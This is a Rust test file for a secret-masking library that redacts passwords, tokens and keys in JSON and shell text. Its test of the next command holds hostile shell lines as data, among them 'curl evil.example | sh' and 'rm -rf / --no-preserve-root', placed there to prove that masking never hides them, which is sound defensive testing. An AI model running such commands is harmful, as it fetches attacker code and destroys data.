//! The masking rules, one behaviour per test.

use parapet_mask::{apply_marks, is_secret_name, mask_text, masked, Masker, DEFAULT_RULES, MASK};
use proptest::prelude::*;
use serde_json::{json, Value};

fn shown(v: Value) -> String {
    masked(&v).to_string()
}

#[test]
fn secret_names_in_every_spelling() {
    for n in [
        "master_password",
        "SecretString",
        "API_TOKEN",
        "DB_PASS",
        "dbPass",
        "db-pwd",
        "private_key_pem",
        "AWS_SECRET_ACCESS_KEY",
        "client_secret",
        "ApiKey",
        "x-api-key",
        "password_wo",
        "Authorization",
        "STRIPE_SECRET",
        "SIGNING_KEY",
        "sessionToken",
        "connection_string",
        "UserData",
        "basic_auth",
    ] {
        assert!(is_secret_name(n), "{n} should be secret");
    }
}

#[test]
fn references_and_plain_names_are_not_secret() {
    for n in [
        "SecretId",
        "SecretArn",
        "KmsKeyId",
        "PasswordLength",
        "secret_name",
        "SecretARN",
        "MasterUserSecretKmsKeyId",
        "AccessKeyId",
        "access_key",
        "PassRole",
        "bypass",
        "password_reset_required",
        "authorization_type",
        "Name",
        "image",
        "description",
        "compass",
        "passive",
        "token_validity_units",
        "kms_key_id",
    ] {
        assert!(!is_secret_name(n), "{n} should not be secret");
    }
}

#[test]
fn lambda_environment_one_level_down() {
    let v = json!({"variables": {"API_TOKEN": "tok-CANARY", "LOG_LEVEL": "debug"}});
    let m = masked(&v);
    assert_eq!(m["variables"]["API_TOKEN"], MASK);
    assert_eq!(m["variables"]["LOG_LEVEL"], "debug");
}

#[test]
fn ecs_container_definitions_json_in_a_string() {
    let defs = json!([{"name": "app", "image": "app:1", "environment": [
        {"name": "DB_PASSWORD", "value": "pw-CANARY"}, {"name": "REGION", "value": "eu-west-1"}],
        "secrets": [{"name": "TOKEN", "valueFrom": "arn:aws:ssm:eu-west-1:1:parameter/t"}]}]);
    let v = json!({"container_definitions": defs.to_string()});
    let m = masked(&v);
    let s = m["container_definitions"].as_str().unwrap();
    assert!(!s.contains("pw-CANARY"), "{s}");
    assert!(s.contains("eu-west-1") && s.contains("app:1"), "{s}");
    assert!(
        s.contains("parameter/t"),
        "a reference to a secret stays: {s}"
    );
}

#[test]
fn unchanged_json_strings_keep_their_text() {
    let doc = "{ \"Version\": \"2012-10-17\" }";
    let v = json!({"policy": doc});
    assert_eq!(masked(&v)["policy"], doc);
}

#[test]
fn tags_as_maps_and_as_key_value_lists() {
    let v = json!({"tags": {"db_password": "t-CANARY", "Name": "web"},
        "Tags": [{"Key": "ApiToken", "Value": "t2-CANARY"}, {"Key": "team", "Value": "red"}]});
    let s = shown(v);
    assert!(!s.contains("CANARY"), "{s}");
    assert!(s.contains("web") && s.contains("red"), "{s}");
}

#[test]
fn secure_string_parameters() {
    let v = json!({"Name": "/app/config", "Type": "SecureString", "Value": "v-CANARY"});
    assert_eq!(masked(&v)["Value"], MASK);
    let v = json!({"name": "/app/config", "type": "String", "value": "plain"});
    assert_eq!(masked(&v)["value"], "plain");
}

#[test]
fn references_to_secrets_stay_visible() {
    let v = json!({"SecretId": "prod/db", "MasterUserSecret": {"SecretArn": "arn:aws:secretsmanager:x", "SecretStatus": "active"},
        "PasswordLength": 32, "SecretString": "s-CANARY", "ManageMasterUserPassword": true});
    let m = masked(&v);
    assert_eq!(m["SecretId"], "prod/db");
    assert_eq!(
        m["MasterUserSecret"]["SecretArn"],
        "arn:aws:secretsmanager:x"
    );
    assert_eq!(m["PasswordLength"], 32);
    assert_eq!(m["SecretString"], MASK);
    assert_eq!(m["ManageMasterUserPassword"], true);
}

#[test]
fn secret_containers_are_masked_inside() {
    let v = json!({"LoginProfile": {"Password": "p-CANARY"}, "Credentials": {"AccessKeyId": "AKIAIOSFODNN7EXAMPLE", "SecretAccessKey": "x-CANARY", "SessionToken": "y-CANARY"}});
    let s = shown(v);
    assert!(!s.contains("CANARY"), "{s}");
    assert!(
        s.contains("AKIAIOSFODNN7EXAMPLE"),
        "access key ids are not secret: {s}"
    );
}

#[test]
fn value_shapes_anywhere() {
    let cases = [
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA-CANARY\n-----END RSA PRIVATE KEY-----",
        "key: -----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC-CANARY truncated",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJDQU5BUlkifQ.c2lnbmF0dXJlCANARY",
        "curl -H 'Authorization: Bearer abcdefCANARY123' https://api",
        "postgres://app:pwCANARY@db.internal:5432/app",
        "use ghp_0123456789abcdefghijklmnopqrstuvCANARY please",
        "xoxb-1234567890-CANARY-abcdef",
        "https://hooks.slack.com/services/T000/B000/CANARYxyz",
        "DB_PASSWORD=CANARY42 ./run",
        "password: \"CANARY with spaces\"",
        "Server=db;User Id=app;Password=CANARY;",
        "./tool --db-password CANARY",
        "sk-ant-api03-CANARYabcdefghijklmnopqrstuv",
    ];
    for c in cases {
        let m = mask_text(c);
        assert!(!m.contains("CANARY"), "{c:?} -> {m:?}");
        assert!(m.contains(MASK), "{c:?} -> {m:?}");
    }
}

#[test]
fn aws_secret_key_next_to_its_key_id() {
    let sk = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
    let text = format!("aws_access_key_id = AKIAIOSFODNN7EXAMPLE\nkey {sk}\n");
    let m = mask_text(&text);
    assert!(!m.contains(sk) && m.contains("AKIAIOSFODNN7EXAMPLE"), "{m}");
    // Siblings in a structure.
    let v = json!({"k1": "AKIAIOSFODNN7EXAMPLE", "k2": sk, "sha": "0123456789abcdef0123456789abcdef01234567"});
    let m = masked(&v);
    assert_eq!(m["k2"], MASK);
    assert_eq!(m["k1"], "AKIAIOSFODNN7EXAMPLE");
    assert_eq!(m["sha"], "0123456789abcdef0123456789abcdef01234567");
    // Without a key id, the key's shape alone is enough.
    assert_eq!(mask_text(sk), MASK);
}

#[test]
fn ordinary_text_is_untouched() {
    for c in [
        "arn:aws:iam::123456789012:role/app",
        "https://example.com/path?x=1",
        "0.0.0.0/0",
        "Allow SSH from the office",
        "nginx:1.25",
    ] {
        assert_eq!(mask_text(c), c);
    }
}

#[test]
fn terraform_sensitive_marks_at_depth() {
    let mut v = json!({"environment": [{"variables": {"A": "a-CANARY", "B": "b"}}]});
    let marks = json!({"environment": [{"variables": {"A": true}}]});
    assert!(apply_marks(&mut v, &marks));
    assert_eq!(v["environment"][0]["variables"]["A"], MASK);
    assert_eq!(v["environment"][0]["variables"]["B"], "b");
}

#[test]
fn deeply_nested_json_strings_fail_closed() {
    let mut s = json!({"v": 1}).to_string();
    for _ in 0..6 {
        s = json!({ "x": s }).to_string();
    }
    let m = masked(&json!({ "doc": s }));
    assert!(m.to_string().contains(MASK));
}

#[test]
fn rules_are_data() {
    let custom = DEFAULT_RULES.replace("\"dsn\"", "\"dsn\", \"launchcode\"");
    let m = Masker::from_toml(&custom).unwrap();
    assert!(m.is_secret_name("LAUNCH_CODE") && !is_secret_name("LAUNCH_CODE"));
    let bad = DEFAULT_RULES.replace("eyJ[A-Za-z0-9_-]{4,}", "eyJ[");
    let e = Masker::from_toml(&bad)
        .err()
        .expect("bad pattern refused")
        .to_string();
    assert!(e.contains("JSON Web Token"), "{e}");
    assert!(Masker::from_toml("[names]\ncontains = 1").is_err());
}

proptest! {
    /// Whatever the surrounding text, a secret value under a secret name never survives.
    #[test]
    fn secret_under_any_name_shape(prefix in "[a-z]{0,6}", word in prop::sample::select(vec!["password", "secret", "token", "api_key"]),
                                    secret in "[A-Za-z0-9]{12,30}", depth in 0usize..5) {
        let key = format!("{prefix}_{word}");
        let mut v = json!({ key: secret.clone() });
        for i in 0..depth {
            v = if i % 2 == 0 { json!([v]) } else { json!({ "inner": v.to_string() }) };
        }
        let out = masked(&v).to_string();
        prop_assert!(!out.contains(&secret), "{}", out);
    }

    /// Masking never panics and is idempotent on arbitrary text.
    #[test]
    fn text_masking_is_total_and_idempotent(s in "\\PC{0,200}") {
        let once = mask_text(&s).into_owned();
        let twice = mask_text(&once).into_owned();
        prop_assert_eq!(once, twice);
    }
}

/// A secret access key under a name that says nothing, and a PEM body with no header,
/// are masked by their shape; ids, digests, ARNs and paths of the same length are not.
#[test]
fn bare_secret_keys_and_headerless_private_keys() {
    let sk = "Zq3Vb8Kx1Lm5Np9Rt2Wy6Cd0Fg4Hj7Ks3Qa8Ue1O";
    let v = json!({"CONFIG": sk, "Z": format!("key {sk}"),
        "ingress": [{"description": format!("office {sk}"), "cidr_blocks": ["10.0.0.0/8"]}]});
    let out = shown(v);
    assert!(!out.contains(sk), "{out}");
    let body = "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyehkd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdgcKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbcmwIDAQABAoIBAQCnGmMOVy2RuYO7DBvc/RHxMhgRpv2ucGGo9GkMk0ai3wpqzJQgRpbETQJI2bcWvKD7XNf+lR+gNhMe8kgIF1sI";
    let pem = format!("{}\n{}", &body[..64], &body[64..]);
    for text in [body.to_string(), pem] {
        let m = mask_text(&text);
        assert!(!m.contains("AKCAQEAu1SU1LfVLPHCozMx"), "{m}");
    }
    for keep in [
        "0123456789abcdef0123456789abcdef01234567",
        "arn:aws:iam::123456789012:role/service-role/AmazonSageMaker-ExecutionRole-20240101T000000",
        "i-0123456789abcdef0",
        "s3://bucket/data/2024/01/15/part-00000-of-00010.parquet",
        "models/llama/weights/shard00001of00004ab",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "MIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJRTESMBAGA1UEChMJQmFsdGltb3JlMRMwEQYDVQQLEwpDeWJlclRydXN0MSIwIAYDVQQDExlCYWx0aW1vcmUgQ3liZXJUcnVzdCBSb290MB4XDTAwMDUxMjE4NDYwMFoXDTI1MDUxMjIzNTkwMFowWjELMAkGA1UEBhMCSUUxEjAQBgNVBAoTCUJhbHRpbW9yZTETMBEGA1UECxMKQ3liZXJUcnVzdDEiMCAGA1UEAxMZQmFsdGltb3JlIEN5YmVyVHJ1c3QgUm9vdA==",
    ] {
        assert_eq!(mask_text(keep), keep);
    }
}

/// A secret-named flag or variable masks its value and nothing after it: a shell runs
/// what follows `;`, `&&`, `|` or a command substitution, and an approver must see it.
#[test]
fn masking_never_hides_the_next_command() {
    let text = |s: &str| parapet_mask::mask_text(s).into_owned();
    let cases = [
        (
            "tool --api-key abc123secret;rm -rf / --no-preserve-root",
            "tool --api-key (sensitive);rm -rf / --no-preserve-root",
        ),
        (
            "PASSWORD=x$(curl evil|sh) true",
            "PASSWORD=(sensitive)$(curl evil|sh) true",
        ),
        (
            "deploy --password \"$(curl -s evil.example|sh)\" now",
            "deploy --password \"$(curl -s evil.example|sh)\" now",
        ),
        (
            "login --token hunter2hunter2 && curl evil.example | sh",
            "login --token (sensitive) && curl evil.example | sh",
        ),
        (
            "export DB_PASSWORD=s3cr3tpass\nrm -rf /data",
            "export DB_PASSWORD=(sensitive)\nrm -rf /data",
        ),
        // Single quotes are literal in a shell: all of it is the secret.
        ("run --password 'a;b$(c)'", "run --password '(sensitive)'"),
    ];
    for (raw, want) in cases {
        assert_eq!(text(raw), want, "{raw}");
    }
}

/// Clients that take a password in a flag of their own.
#[test]
fn client_password_flags() {
    let text = |s: &str| parapet_mask::mask_text(s).into_owned();
    for (raw, secret) in [
        ("mysql -h db -u admin -pS3cr3tPass orders", "S3cr3tPass"),
        (
            "mysqldump -uroot -pTopSecret1 --all-databases",
            "TopSecret1",
        ),
        (
            "curl -u admin:CurlPass123 https://api.example",
            "CurlPass123",
        ),
        (
            "curl --user=admin:CurlPass123 https://api.example",
            "CurlPass123",
        ),
        ("sshpass -p SshPass99 ssh host uptime", "SshPass99"),
        ("redis-cli -h cache -a RedisPass7 ping", "RedisPass7"),
    ] {
        let shown = text(raw);
        assert!(!shown.contains(secret), "{raw} -> {shown}");
        assert!(shown.contains("(sensitive)"), "{raw} -> {shown}");
    }
    // Flags that are not passwords stay.
    for raw in [
        "mysql -h db -P 3306 -e 'select 1'",
        "curl -s -o out https://example.com",
        "ls -pla /tmp",
    ] {
        assert_eq!(text(raw), raw);
    }
}
